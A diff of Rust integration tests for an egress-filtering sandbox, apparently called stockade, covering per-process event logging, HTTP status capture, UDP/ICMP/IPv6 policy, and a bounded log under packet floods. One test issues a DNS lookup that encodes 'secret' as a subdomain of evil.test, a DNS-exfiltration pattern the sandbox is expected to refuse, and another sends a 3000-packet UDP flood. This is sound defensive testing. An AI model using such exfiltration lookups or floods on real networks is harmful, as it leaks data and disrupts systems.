@@ -60,6 +60,22 @@ fn allowed_name_works_via_proxy_variables_and_transparently() {
         assert!(e["bytes_up"].as_u64().unwrap() > 0, "{r:?}");
         assert!(e["error"].is_null(), "{r:?}");
     }
+    // Each connection names the job process that made it; plain HTTP carries upstream's status.
+    for e in r
+        .find(&[("name", "allowed.test")])
+        .iter()
+        .filter(|e| e["protocol"] != "dns")
+    {
+        assert_eq!(e["comm"], "curl", "{r:?}");
+        assert!(e["pid"].as_u64().is_some(), "{r:?}");
+        assert!(e["exe"].as_str().unwrap().ends_with("/curl"), "{r:?}");
+        let status = if e["protocol"] == "http" {
+            json!(200)
+        } else {
+            json!(null)
+        };
+        assert_eq!(e["http_status"], status, "{r:?}");
+    }
     // Transparent connections went to the synthetic address stockade's DNS gave out.
     let t = &r.find(&[("via", "transparent")])[0];
     assert!(t["client_target"].as_str().unwrap().starts_with("198.18."), "{r:?}");
@@ -196,6 +212,63 @@ fn sni_differing_from_connect_host_and_tls_without_sni_are_refused() {
         1,
         "{r:?}"
     );
+}
+
+#[test]
+fn events_carry_upstream_http_status_and_the_process() {
+    require_netns!();
+    let http = HttpServer::start("statuses", 0);
+    let https = HttpsServer::start();
+    let (h, s) = (http.port, https.port);
+    let cert = https.cert.display();
+    let r = run(
+        policy(
+            &[format!("allowed.test:{h}"), format!("allowed.test:{s}")],
+            &["allowed.test", "denied.test"],
+        ),
+        &format!(
+            "curl -sS -o /dev/null -w 'proxy %{{http_code}}\\n' http://allowed.test:{h}/status/401; \
+             curl -sS --noproxy '*' -o /dev/null -w 'transparent %{{http_code}}\\n' http://allowed.test:{h}/status/407; \
+             curl -sS --cacert {cert} -o /dev/null -w 'tunnel %{{http_code}}\\n' https://allowed.test:{s}/; \
+             curl -sS -o /dev/null -w 'denied %{{http_code}}\\n' http://denied.test:{h}/status/401; \
+             getent hosts c2VjcmV0.evil.test; echo getent-rc=$?"
+        ),
+    );
+    for line in [
+        "proxy 401",
+        "transparent 407",
+        "tunnel 200",
+        "denied 403",
+        "getent-rc=2",
+    ] {
+        assert!(r.stdout.contains(line), "{line}: {r:?}");
+    }
+    let one = |want: &[(&str, &str)]| {
+        let ev = r.find(want);
+        assert_eq!(ev.len(), 1, "{want:?}: {r:?}");
+        ev[0].clone()
+    };
+    assert_eq!(
+        one(&[("via", "proxy-request"), ("name", "allowed.test")])["http_status"],
+        401
+    );
+    assert_eq!(
+        one(&[("via", "transparent"), ("name", "allowed.test")])["http_status"],
+        407
+    );
+    // A CONNECT tunnel's bytes are not read: no status, even for HTTPS whose status was 200.
+    assert!(one(&[("via", "connect")])["http_status"].is_null(), "{r:?}");
+    // Stockade's own refusal is not upstream's answer.
+    let denied = one(&[("via", "proxy-request"), ("name", "denied.test")]);
+    assert!(denied["http_status"].is_null(), "{r:?}");
+    assert_eq!(denied["comm"], "curl", "{r:?}");
+    // A refused question's answer waits for the lookup: the asker is always known.
+    let asked = r.find(&[("protocol", "dns"), ("name", "c2vjcmv0.evil.test")]);
+    assert!(!asked.is_empty(), "{r:?}");
+    for e in asked {
+        assert_eq!(e["comm"], "getent", "{r:?}");
+        assert!(e["pid"].as_u64().unwrap() > 1, "{r:?}");
+    }
 }
 
 #[test]
@@ -402,23 +475,154 @@ fn udp_and_dns_to_a_test_host_never_reach_it() {
     assert!(!th.stop_server(dnsu).contains("datagram"));
 }
 
+/// Tries UDP, ICMP echo, and IPv6 UDP and TCP (HTTP naming an allowed and a denied host) to the
+/// test host from one Python process, then asks two refused DNS questions before exiting: a
+/// refused answer waits for its own process lookup, which queues behind those of the packets
+/// sent before, so the process still holds the packets' sockets when they are looked up.
+const PACKET_PROBE: &str = r#"
+import os, socket, sys
+a, a6, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+print("pid", os.getpid())
+def attempt(what, f):
+    try:
+        f()
+        print(what, "sent")
+    except OSError as e:
+        print(what, "failed:", e.strerror)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+attempt("udp", lambda: u.sendto(b"x", (a, 9999)))
+p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+attempt("icmp", lambda: p.sendto(b"\x08\x00\x00\x00\x12\x34\x00\x01", (a, 0)))
+u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+attempt("udp6", lambda: u6.sendto(b"x", (a6, 9999)))
+for host in ["allowed.test", "denied.test"]:
+    t6 = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    t6.settimeout(10)
+    t6.connect((a6, port))
+    t6.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\nConnection: close\r\n\r\n")
+    got = b""
+    while True:
+        b = t6.recv(4096)
+        if not b:
+            break
+        got += b
+    print("tcp6", host, got.split(b"\r\n\r\n")[-1].decode() or "closed")
+for _ in range(2):
+    try:
+        socket.getaddrinfo("denied.test", 80, socket.AF_INET)
+    except OSError:
+        pass
+"#;
+
 #[test]
-fn ipv6_is_closed() {
+fn udp_icmp_and_ipv6_follow_the_policy_and_are_logged_with_their_process() {
     require_netns!();
     require_root!();
     let mut th = TestHost::new();
-    let srv = th.serve("serve-tcp", 8080);
-    let a6 = th.addr6.clone();
+    let http = HttpServer::start("allowed", 0);
+    let p = http.port;
+    let udp = th.serve("serve-udp", 9999);
+    let tcp6 = th.serve_at("serve-tcp", &format!("[{}]:{p}", th.addr6));
+    let udp6 = th.serve_at("serve-udp", &format!("[{}]:9999", th.addr6));
+    let (a, a6) = (th.addr.clone(), th.addr6.clone());
+    let dir = TempDir::new("probe");
+    let probe = dir.0.join("probe.py");
+    std::fs::write(&probe, PACKET_PROBE).unwrap();
+    let r = run(
+        policy(&[format!("allowed.test:{p}")], &["allowed.test"]),
+        &format!("python3 {} {a} {a6} {p}", path_str(&probe)),
+    );
+    for line in [
+        "udp failed: Operation not permitted",
+        "icmp failed: Operation not permitted",
+        "udp6 failed: Operation not permitted",
+        // IPv6 TCP goes to the proxy like IPv4: decided by the name in its first bytes.
+        "tcp6 allowed.test hello from allowed (Host: allowed.test",
+        "tcp6 denied.test closed",
+    ] {
+        assert!(r.stdout.contains(line), "{line}: {r:?}");
+    }
+    let pid: u64 = r
+        .stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("pid "))
+        .and_then(|p| p.parse().ok())
+        .unwrap();
+    let firewall = r.find(&[("via", "firewall")]);
+    let v6 = format!("[{a6}]:{p}");
+    for (via, protocol, target, verdict, rule) in [
+        (
+            "firewall",
+            "udp",
+            format!("{a}:9999"),
+            "refused",
+            "UDP other than DNS is refused",
+        ),
+        ("firewall", "icmp", format!("{a}:0"), "refused", "ICMP is refused"),
+        (
+            "firewall",
+            "udp",
+            format!("[{a6}]:9999"),
+            "refused",
+            "IPv6 UDP is refused",
+        ),
+        (
+            "transparent",
+            "http",
+            v6.clone(),
+            "allowed",
+            &format!("allow allowed.test:{p}"),
+        ),
+        ("transparent", "http", v6.clone(), "refused", "name not in allowlist"),
+    ] {
+        let ev = r.find(&[
+            ("via", via),
+            ("protocol", protocol),
+            ("client_target", &target),
+            ("verdict", verdict),
+        ]);
+        assert_eq!(ev.len(), 1, "{protocol} {target} {verdict}: {r:?}");
+        let e = ev[0];
+        assert_eq!(e["rule"], rule, "{r:?}");
+        assert_eq!(e["pid"], pid, "{protocol} {target}: {r:?}");
+        assert!(e["comm"].as_str().unwrap().starts_with("python"), "{r:?}");
+    }
+    assert_eq!(firewall.len(), 3, "{r:?}");
+    // The ping socket's identifier is its local "port", as the job-side source.
+    let icmp = r.find(&[("via", "firewall"), ("protocol", "icmp")]);
+    assert!(icmp[0]["source"].as_str().unwrap().starts_with("127.0.0.1:"), "{r:?}");
+    assert!(r.stderr.contains(&format!("udp {a}:9999")), "summary: {r:?}");
+    assert!(r.stderr.contains(&format!("icmp {a}")), "summary: {r:?}");
+    assert!(!th.stop_server(udp).contains("datagram"));
+    assert!(!th.stop_server(tcp6).contains("accepted"));
+    assert!(!th.stop_server(udp6).contains("datagram"));
+}
+
+#[test]
+fn a_packet_flood_is_counted_not_kept() {
+    require_netns!();
+    const SENT: u64 = 3000;
     let r = run(
         policy(&["allowed.test".into()], &[]),
-        &format!("$TRY probe tcp [{a6}]:8080; $TRY probe udp [{a6}]:9999"),
+        &format!(
+            "python3 -c 'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor i in range({SENT}):\n    try: s.sendto(b\"x\", (\"10.213.0.9\", 9999))\n    except OSError: pass\nprint(\"flooded\")'"
+        ),
     );
+    assert!(r.stdout.contains("flooded"), "{r:?}");
+    let kept = r.find(&[("via", "firewall")]).len() as u64;
+    let dropped = r.log["dropped_packets"].as_u64().unwrap();
+    // Memory is bounded by the cap; what is past it (or lost by an overflowing log socket,
+    // from the gaps in its sequence numbers) is counted.
+    assert!(kept <= stockade_egress::MAX_PACKET_EVENTS, "{kept}");
+    assert!(kept > 0, "{r:?}");
+    assert!(kept + dropped <= SENT, "{kept} + {dropped}");
+    if kept == stockade_egress::MAX_PACKET_EVENTS {
+        assert!(dropped > 0, "past the cap is counted");
+    }
     assert!(
-        r.stdout.contains("tcp: connect failed: Network is unreachable"),
+        r.stderr.contains("refused packets counted, not kept") == (dropped > 0),
         "{r:?}"
     );
-    assert!(r.stdout.contains("udp: send failed: Network is unreachable"), "{r:?}");
-    assert!(!th.stop_server(srv).contains("accepted"));
 }
 
 #[test]
